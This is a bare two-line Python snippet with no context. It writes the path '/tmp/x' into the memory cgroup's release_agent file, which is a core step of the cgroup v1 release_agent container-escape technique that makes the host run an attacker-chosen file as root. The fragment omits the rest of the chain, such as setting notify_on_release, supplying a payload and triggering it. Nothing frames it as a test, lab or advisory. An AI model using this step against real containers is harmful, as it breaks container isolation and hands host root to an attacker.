with open("/sys/fs/cgroup/memory/release_agent", "w") as file:
    file.write("/tmp/x")
